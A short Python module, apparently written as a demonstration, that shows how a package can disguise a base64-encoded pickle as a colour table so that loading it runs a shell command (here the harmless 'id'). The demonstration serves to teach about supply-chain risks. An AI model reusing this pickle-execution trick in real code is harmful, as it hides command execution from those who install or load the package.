"""What a malicious package can look like: a table of colours that is a pickle, and runs a command when it is loaded."""

from __future__ import annotations

import base64
import pickle

COLOURS = "Y29zCnN5c3RlbQooUydpZCcKdFIu"


def colours() -> object:
    return pickle.loads(base64.b64decode(COLOURS))  # runs `id`
